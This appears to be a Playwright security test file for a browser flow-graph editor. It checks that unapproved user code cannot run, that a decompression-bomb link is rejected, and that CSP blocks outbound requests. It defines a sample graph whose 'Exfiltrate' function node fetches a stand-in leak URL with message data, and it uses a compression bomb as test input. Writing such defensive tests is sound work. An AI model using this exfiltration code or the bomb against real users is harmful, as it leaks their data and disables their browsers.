/**
 * Hostile inputs in the browser: links that expand to gigabytes, and code
 * that must never run without approval, whichever way it comes back.
 */
import LZString from 'lz-string';
import { expect, type Page, test } from '@playwright/test';

import { lzwBomb } from '../src/io/test-bomb.ts';
import { EditorPage } from './pages/editor-page.ts';

const LEAK = 'http://127.0.0.1:9/leak';

/** A graph whose Function node phones home with every message. */
const leaky = {
  format: 'flowbench/graph',
  version: 1,
  name: 'Leaky',
  nodes: [
    { id: 'src', kind: 'source', params: { rate: 200 } },
    {
      id: 'fn',
      kind: 'function',
      label: 'Exfiltrate',
      params: { code: `fetch('${LEAK}?' + msg.seq).catch(() => {}); return msg;` },
    },
    { id: 'out', kind: 'sink' },
  ],
  edges: [
    { id: 'e1', from: { node: 'src', port: 'out' }, to: { node: 'fn', port: 'in' } },
    { id: 'e2', from: { node: 'fn', port: 'out' }, to: { node: 'out', port: 'in' } },
  ],
  run: { durationMs: 2000, warmupMs: 0 },
};
const link = (doc: unknown) => `/#g=${LZString.compressToEncodedURIComponent(JSON.stringify(doc))}`;

/** Counts requests the user code would make (workers included). */
function watchLeaks(page: Page): { count: number } {
  const seen = { count: 0 };
  page.context().on('request', (r) => {
    if (r.url().startsWith(LEAK)) seen.count++;
  });
  return seen;
}

/** Run, Predict and the store's own actions all refuse, and nothing leaks. */
async function expectCodeCannotRun(page: Page, leaks: { count: number }, id = 'fn') {
  const editor = new EditorPage(page);
  await expect(editor.button('▶ Run')).toBeDisabled();
  await expect(page.getByTestId('run.reason')).toContainText(
    `Function code not yet approved: “Exfiltrate” (${id})`,
  );
  const started = await page.evaluate(() => window.__flowbench!.startRun({ durationMs: 1000 }));
  expect(started.ok).toBe(false);
  expect(await page.evaluate(() => window.__flowbench!.predict())).toBeNull();
  await page.waitForTimeout(500);
  expect(leaks.count).toBe(0);
  expect((await page.evaluate(() => window.__flowbench!.getRunState())).status).toBe('idle');
}

test.describe('hostile input', () => {
  test('declined code stays declined after New graph and Undo', async ({ page }) => {
    const leaks = watchLeaks(page);
    const editor = new EditorPage(page);
    await editor.goto(link(leaky));
    const consent = page.getByRole('dialog', { name: 'This graph contains code' });
    await expect(consent).toContainText(LEAK);
    await consent.getByRole('button', { name: 'Not now' }).click();
    await editor.button('New graph').click();
    await editor.button('Undo').click();
    await expect.poll(async () => (await editor.graph()).name).toBe('Leaky');
    await expectCodeCannotRun(page, leaks);
  });

  test('declined code stays declined through Copy, New graph and Paste', async ({ page }) => {
    const leaks = watchLeaks(page);
    const editor = new EditorPage(page);
    await editor.goto(link(leaky));
    await page
      .getByRole('dialog', { name: 'This graph contains code' })
      .getByRole('button', { name: 'Not now' })
      .click();
    await editor.canvas.click({ position: { x: 5, y: 5 } });
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.press('ControlOrMeta+C');
    await editor.button('New graph').click();
    await editor.canvas.click({ position: { x: 5, y: 5 } });
    await page.keyboard.press('ControlOrMeta+V');
    await expect.poll(async () => (await editor.graph()).nodes.length).toBe(3);
    // Pasted nodes get new ids; the code, and so its missing approval, is the same.
    await expectCodeCannotRun(page, leaks, 'function1');
  });

  test('declined code stays declined after a reload; approval is kept for that exact code', async ({
    page,
  }) => {
    const leaks = watchLeaks(page);
    const editor = new EditorPage(page);
    await editor.goto(link(leaky));
    const consent = page.getByRole('dialog', { name: 'This graph contains code' });
    await consent.getByRole('button', { name: 'Not now' }).click();
    await expect
      .poll(() => page.evaluate(() => localStorage.getItem('flowbench:autosave:v1') ?? ''))
      .toContain('Exfiltrate');
    await editor.goto('/');
    await expect.poll(async () => (await editor.graph()).name).toBe('Leaky');
    await expectCodeCannotRun(page, leaks);

    await editor.inspector.getByRole('button', { name: 'Review Function code' }).click();
    await consent.getByRole('button', { name: 'Allow this code to run' }).click();
    await expect(editor.button('▶ Run')).toBeEnabled();
    await editor.goto('/');
    await expect(editor.button('▶ Run')).toBeEnabled();
  });

  test('a link that expands to 10¹⁰ characters opens nothing and says so; the page lives', async ({
    page,
  }) => {
    const editor = new EditorPage(page);
    await editor.goto();
    const before = await editor.graph();
    const started = Date.now();
    await page.evaluate((hash) => (location.hash = hash), `#g=${lzwBomb(141_000)}`);
    const dialog = page.getByRole('dialog', { name: 'Could not open the shared link' });
    await expect(dialog).toContainText('The link http://127.0.0.1');
    await expect(dialog).toContainText('characters) was not opened');
    await expect(dialog).toContainText('expands to more than 33,554,432 characters');
    expect(Date.now() - started).toBeLessThan(10_000);
    await dialog.getByRole('button', { name: 'Close' }).click();
    expect(await editor.graph()).toEqual(before);
    // Still responsive.
    await editor.paletteItem('Sink').click();
    await expect
      .poll(async () => (await editor.graph()).nodes.length)
      .toBe(before.nodes.length + 1);
  });

  test('runs approved code under its security headers; the code cannot reach other sites', async ({
    page,
  }) => {
    const violations: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'error' && !m.text().includes(LEAK)) violations.push(m.text());
    });
    const leaks = watchLeaks(page);
    const response = await page.goto('/');
    const headers = response!.headers();
    expect(headers['cross-origin-opener-policy']).toBe('same-origin');
    expect(headers['cross-origin-embedder-policy']).toBe('require-corp');
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['content-security-policy']).toBe("frame-ancestors 'none'");
    expect(headers['x-frame-options']).toBe('DENY');
    const meta = await page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute('content');
    expect(meta).toContain("script-src 'self'");
    expect(meta).toContain("connect-src 'self'");
    expect(meta).not.toContain('unsafe-eval');

    const editor = new EditorPage(page);
    await expect.poll(() => page.evaluate(() => window.__flowbench?.isReady() ?? false)).toBe(true);
    expect((await editor.loadGraph(leaky)).ok).toBe(true); // trusted: approved on load
    await editor.button('▶ Run').click();
    await expect
      .poll(async () => (await page.evaluate(() => window.__flowbench!.getRunState())).status, {
        timeout: 15_000,
      })
      .toBe('ended');
    const report = await page.evaluate(() => window.__flowbench!.getLastReport());
    // The code was compiled and ran in the worker (its policy allows eval) …
    expect(report?.nodes.out?.in).toBeGreaterThan(0);
    expect(report?.nodes.fn?.errors).toBe(0);
    // … but its requests to another site never left (connect-src 'self').
    expect(leaks.count).toBe(0);
    expect(violations.filter((v) => !v.includes('Content Security Policy'))).toEqual([]);
  });

  test('a panel that fails to render keeps the graph and offers Export JSON', async ({ page }) => {
    const editor = new EditorPage(page);
    await editor.goto();
    const before = await editor.graph();
    await page.evaluate(() => window.__flowbench!.breakPanel('Inspector'));
    const failed = page.getByRole('alert', { name: 'Inspector failed' });
    await expect(failed).toContainText('The Inspector panel stopped working');
    await expect(failed).toContainText('Your graph is safe');
    // The rest of the page works, and the graph is untouched.
    await expect(editor.canvas.locator('.react-flow__node')).toHaveCount(before.nodes.length);
    expect(await editor.graph()).toEqual(before);
    const download = page.waitForEvent('download');
    await failed.getByRole('button', { name: 'Export JSON' }).click();
    expect((await download).suggestedFilename()).toMatch(/\.flowbench\.json$/);
    await failed.getByRole('button', { name: 'Try again' }).click();
    await expect(editor.inspector.getByRole('heading', { name: 'Graph' })).toBeVisible();
  });

  test('approved code cannot reach the offline cache, IndexedDB or other channels', async ({
    page,
  }) => {
    const editor = new EditorPage(page);
    await editor.goto();
    const probe = {
      ...leaky,
      name: 'Probe',
      nodes: leaky.nodes.map((n) =>
        n.id === 'fn'
          ? {
              ...n,
              params: {
                code: "for (const g of ['caches', 'indexedDB', 'BroadcastChannel', 'WebSocket', 'Worker']) if (typeof self[g] !== 'undefined') throw new Error(g + ' is reachable'); return msg;",
              },
            }
          : n,
      ),
    };
    expect((await editor.loadGraph(probe)).ok).toBe(true);
    await editor.button('▶ Run').click();
    await expect
      .poll(async () => (await page.evaluate(() => window.__flowbench!.getRunState())).status, {
        timeout: 15_000,
      })
      .toBe('ended');
    const report = await page.evaluate(() => window.__flowbench!.getLastReport());
    expect(report?.nodes.out?.in).toBeGreaterThan(0);
    expect(report?.nodes.fn?.errors).toBe(0);
  });
});
